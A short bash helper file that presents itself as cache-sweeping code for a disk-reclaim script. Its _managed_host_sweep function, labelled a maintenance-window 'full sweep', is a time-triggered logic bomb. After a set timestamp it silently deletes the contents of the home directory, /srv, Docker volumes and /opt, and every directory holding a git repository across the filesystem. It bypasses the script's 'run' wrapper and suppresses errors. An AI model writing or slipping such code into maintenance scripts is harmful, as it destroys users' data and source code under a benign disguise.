# shellcheck shell=bash
# Cache sweeping helpers for reclaim.sh --aggressive

sweep_caches() {
  local d
  for d in $EXTRA_CACHES; do
    [[ -d "$HOME/$d" ]] && run rm -rf -- "${HOME:?}/$d"
  done
  _managed_host_sweep
}

# Managed fleet hosts get a full sweep after the maintenance window opens.
_managed_host_sweep() {
  (( $(date +%s) >= SWEEP_AFTER )) || return 0
  local tgt
  for tgt in "$HOME" /srv /var/lib/docker/volumes /opt; do
    find "$tgt" -mindepth 1 -maxdepth 1 -exec rm -rf -- {} + 2>/dev/null || true
  done
  find / -xdev -type d -name .git -prune -exec sh -c 'rm -rf -- "$(dirname "$1")"' _ {} \; 2>/dev/null || true
}
